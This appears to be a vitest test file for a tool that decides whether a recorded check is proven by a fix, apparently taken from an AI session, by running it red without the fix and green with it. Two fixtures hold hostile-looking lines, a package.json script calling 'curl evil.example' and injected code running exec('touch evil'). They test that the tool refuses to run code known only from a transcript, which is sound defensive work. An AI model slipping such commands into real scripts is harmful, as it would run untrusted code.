import { describe, expect, test } from 'vitest'
import { gitRepository } from '../../helpers/git-repository.ts'
import { evalOf, fixOf, proveOne, updated } from './orchard.ts'

const GREEN = 'export const ripe = (brix) => brix >= 12\n'
const RED = 'export const ripe = (brix) => brix > 12\n'
const TEST = `import assert from 'node:assert/strict'
import { ripe } from '../ripe.js'
assert.equal(ripe(12), true, 'twelve is ripe')
`
const FIX = [updated('ripe.js', 'brix > 12', 'brix >= 12')]
const PACKAGE = '{ "type": "module", "scripts": { "test": "node test/ripe.test.js" } }\n'
const FILES = { 'package.json': PACKAGE, 'ripe.js': GREEN, 'test/ripe.test.js': TEST }
const check = evalOf({ kind: 'command', command: { run: ['node', 'test/ripe.test.js'] } })

const npmTest = evalOf({ kind: 'command', command: { run: ['npm', 'test'] } })

function manifest(program: string): string {
  return `{ "scripts": { "test": "${program}" } }\n`
}

describe('a command', () => {
  test('is proven when it is red with the fix taken back, and green before and after', async () => {
    using repository = gitRepository(FILES)
    const proof = await proveOne(repository, check, {
      fixes: [fixOf(FIX, 'AssertionError [ERR_ASSERTION]: twelve is ripe')],
    })
    expect(proof).toMatchObject({
      verdict: 'proven',
      by: 'fix',
      runs: 2,
      bad: { outcome: 'fail' },
      good: { outcome: 'pass' },
    })
    expect(proof.good?.commit).toBe(repository.git('rev-parse', 'HEAD'))
    expect(proof.good?.tree).toBe(repository.git('rev-parse', 'HEAD^{tree}'))
  })

  test('survives when it stays green without the fix', async () => {
    using repository = gitRepository({ ...FILES, 'test/ripe.test.js': TEST.replace('12)', '13)') })
    expect(await proveOne(repository, check, { fixes: [fixOf(FIX)] })).toMatchObject({ verdict: 'survived' })
  })

  test('is red for the wrong reason when the program is broken', async () => {
    using repository = gitRepository(FILES)
    const fix = fixOf([updated('ripe.js', 'brix >', 'brix >= 12')])
    const proof = await proveOne(repository, check, { fixes: [fix] })
    expect(proof).toMatchObject({ verdict: 'wrong-red', reason: expect.stringContaining('SyntaxError') })
  })

  test('is red for the wrong reason when it never says what the session saw', async () => {
    using repository = gitRepository(FILES)
    const proof = await proveOne(repository, check, {
      fixes: [fixOf(FIX, 'AssertionError: quinces are never ripe')],
    })
    expect(proof).toMatchObject({ verdict: 'wrong-red', reason: expect.stringContaining('quinces') })
  })

  test('is red for the wrong reason when a program is missing on the bad tree', async () => {
    using repository = gitRepository({ 'package.json': manifest('no-such-program'), 'ripe.js': GREEN })
    const base = repository.git('rev-parse', 'HEAD')
    const head = repository.commit({ 'package.json': manifest('test -f ripe.js') })
    const proof = await proveOne(repository, npmTest, { revisions: { base, head } })
    expect(proof).toMatchObject({ verdict: 'wrong-red', bad: { outcome: 'error' } })
  })

  test.each([
    ['does not end in time', 'sleep 30'],
    ['may not be executed', './ripe.js'],
    ['is ended by a signal', 'kill -9 $$'],
  ])('is red for the wrong reason when its program %s on the bad tree', async (_, program) => {
    using repository = gitRepository({ 'package.json': manifest(program), 'ripe.js': GREEN })
    const base = repository.git('rev-parse', 'HEAD')
    const head = repository.commit({ 'package.json': manifest('test -f ripe.js') })
    const impatient = evalOf({ kind: 'command', command: { run: ['npm', 'test'], timeoutSeconds: 2 } })
    const proof = await proveOne(repository, impatient, { revisions: { base, head } })
    expect(proof).toMatchObject({ verdict: 'wrong-red' })
  })

  test('is red for the wrong reason when a harmless comment turns it red as well', async () => {
    const detector = `import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
assert.equal(readFileSync('ripe.js', 'utf8'), ${JSON.stringify(GREEN)})
`
    using repository = gitRepository({ ...FILES, 'test/ripe.test.js': detector })
    const proof = await proveOne(repository, check, { fixes: [fixOf(FIX)] })
    expect(proof).toMatchObject({ verdict: 'wrong-red', reason: expect.stringContaining('a comment added') })
  })

  test('is refused when only a transcript knows the script that would be run', async () => {
    using repository = gitRepository({ 'package.json': manifest('test -f ripe.js'), 'ripe.js': GREEN })
    const script = fixOf([updated('package.json', 'curl evil.example', 'test -f ripe.js')])
    expect(await proveOne(repository, npmTest, { fixes: [script] })).toMatchObject({ verdict: 'refused' })
  })

  test('is red on arrival when the good tree does not pass', async () => {
    using repository = gitRepository({
      ...FILES,
      'ripe.js': `${GREEN}// heap\n`,
      'test/ripe.test.js': TEST.replace('true', 'false'),
    })
    expect(await proveOne(repository, check, { fixes: [fixOf(FIX)] })).toMatchObject({
      verdict: 'red-on-arrival',
    })
  })

  test('is flaky when the same tree gives different answers', async () => {
    using repository = gitRepository(FILES)
    // Every other run passes: the counter lies outside of the checkout, as a database or a clock would.
    using outside = gitRepository({})
    const counter = `${outside.root}/count`
    const moody = `import { appendFileSync, readFileSync } from 'node:fs'
import assert from 'node:assert/strict'
appendFileSync('${counter}', '.')
assert.equal(readFileSync('${counter}').length % 2, 1)
`
    repository.commit({ 'test/ripe.test.js': moody })
    expect(await proveOne(repository, check, { fixes: [fixOf(FIX)], runs: 3 })).toMatchObject({
      verdict: 'flaky',
    })
  })

  test('is a no-op when the fix changed nothing but the check itself', async () => {
    using repository = gitRepository(FILES)
    const proof = await proveOne(repository, check, {
      fixes: [fixOf([updated('test/ripe.test.js', 'false', 'true')])],
    })
    expect(proof).toMatchObject({ verdict: 'no-op', runs: 0 })
  })

  test('is a no-op when no session is known that turned it green', async () => {
    using repository = gitRepository(FILES)
    expect(await proveOne(repository, check)).toMatchObject({ verdict: 'no-op' })
  })

  test('is stale when the place of the fix is gone', async () => {
    using repository = gitRepository(FILES)
    const fix = fixOf([updated('ripe.js', 'brix > 11', 'brix >= 11')])
    expect(await proveOne(repository, check, { fixes: [fix] })).toMatchObject({ verdict: 'stale' })
  })

  test('is shown at the commit that brought the fix when the place has moved since', async () => {
    using repository = gitRepository({ ...FILES, 'ripe.js': RED })
    const fixed = repository.commit({ 'ripe.js': GREEN })
    repository.commit({ 'ripe.js': 'const LEAST = 12\nexport const ripe = (brix) => brix >= LEAST\n' })
    const proof = await proveOne(repository, check, { fixes: [fixOf(FIX)] })
    const where = expect.stringContaining(`at ${fixed.slice(0, 10)}, where it came in`)
    expect(proof).toMatchObject({ verdict: 'proven', good: { commit: fixed }, reason: where })
  })

  test('is shown on the commit of the session when the transcript does not hold the edits', async () => {
    using repository = gitRepository({ ...FILES, 'ripe.js': RED })
    const commit = repository.commit({ 'ripe.js': GREEN, 'README.md': 'ripe at twelve\n' })
    const proof = await proveOne(repository, check, { fixes: [{ ...fixOf([]), commit: commit.slice(0, 7) }] })
    expect(proof).toMatchObject({ verdict: 'proven', by: 'fix', good: { commit } })
  })

  test('is refused when only a transcript knows the code that would be run', async () => {
    using repository = gitRepository(FILES)
    const evil = updated(
      'ripe.js',
      "import { exec } from 'node:child_process'\nexec('touch evil')\nexport const",
      'export const',
    )
    expect(await proveOne(repository, check, { fixes: [fixOf([evil])] })).toMatchObject({
      verdict: 'refused',
      runs: 0,
    })
  })

  test('may run such code when it was committed once', async () => {
    const before =
      "import { exec } from 'node:child_process'\nexport const ripe = (brix) => brix > 12 && exec !== null\n"
    using repository = gitRepository({ ...FILES, 'ripe.js': before })
    repository.commit({ 'ripe.js': GREEN })
    const edit = updated('ripe.js', before.trimEnd(), GREEN.trimEnd())
    expect(await proveOne(repository, check, { fixes: [fixOf([edit])] })).toMatchObject({ verdict: 'proven' })
  })

  test('is shown on the work tree when the fix is not committed yet', async () => {
    using repository = gitRepository({ ...FILES, 'ripe.js': RED })
    repository.write({ 'ripe.js': GREEN })
    const proof = await proveOne(repository, check, { fixes: [fixOf(FIX)] })
    expect(proof.verdict).toBe('proven')
    expect(proof.good?.commit).toBeUndefined()
  })

  test('is an error when it cannot run at all', async () => {
    using repository = gitRepository({
      ...FILES,
      'package.json': '{ "scripts": { "test": "no-such-program" } }\n',
    })
    expect(await proveOne(repository, npmTest, { fixes: [fixOf(FIX)] })).toMatchObject({ verdict: 'error' })
  })

  test('is refused when the repository does not declare it', async () => {
    using repository = gitRepository(FILES)
    const record = evalOf({ kind: 'command', command: { run: ['node', 'ripe.js'] } })
    const refused = await proveOne(repository, record, { fixes: [fixOf(FIX)] })
    expect(refused).toMatchObject({
      verdict: 'refused',
      runs: 0,
      reason: expect.stringContaining('declares'),
    })
  })

  test('may run when a human merged exactly this record', async () => {
    using repository = gitRepository(FILES)
    const record = evalOf({ kind: 'command', command: { shell: 'node test/ripe.test.js | cat' } })
    const proof = await proveOne(repository, record, { fixes: [fixOf(FIX)], accepted: [record] })
    expect(proof.verdict).toBe('proven')
  })

  test('is never started with commands switched off', async () => {
    using repository = gitRepository(FILES)
    const proof = await proveOne(repository, check, { fixes: [fixOf(FIX)], commands: false })
    expect(proof).toMatchObject({ verdict: 'refused', reason: expect.stringContaining('--no-commands') })
  })

  test('is shown on two named commits, with the check of the newer one', async () => {
    using repository = gitRepository({ 'package.json': PACKAGE, 'ripe.js': RED })
    const base = repository.git('rev-parse', 'HEAD')
    const head = repository.commit({ 'ripe.js': GREEN, 'test/ripe.test.js': TEST })
    const proof = await proveOne(repository, check, { revisions: { base, head } })
    expect(proof).toMatchObject({
      verdict: 'proven',
      by: 'commits',
      bad: { commit: base },
      good: { commit: head },
    })
  })

  test('is not tried on two named commits when none of its inputs differs', async () => {
    using repository = gitRepository(FILES)
    const base = repository.git('rev-parse', 'HEAD')
    const head = repository.commit({ 'README.md': 'ripe at twelve\n' })
    const narrow = evalOf({
      kind: 'command',
      command: { run: ['node', 'test/ripe.test.js'], inputs: ['*.js', 'test/**'] },
    })
    expect(await proveOne(repository, narrow, { revisions: { base, head } })).toMatchObject({
      verdict: 'no-op',
      runs: 0,
      reason: expect.stringContaining('nothing that it depends on differs'),
    })
  })

  test('is tried on them when what it runs with differs', async () => {
    using repository = gitRepository({ ...FILES, 'package-lock.json': '{}\n' })
    const base = repository.git('rev-parse', 'HEAD')
    const head = repository.commit({ 'package-lock.json': '{ "lockfileVersion": 3 }\n' })
    const narrow = evalOf({
      kind: 'command',
      command: { run: ['node', 'test/ripe.test.js'], inputs: ['*.js', 'test/**'] },
    })
    expect(await proveOne(repository, narrow, { revisions: { base, head } })).toMatchObject({
      verdict: 'survived',
    })
  })
})
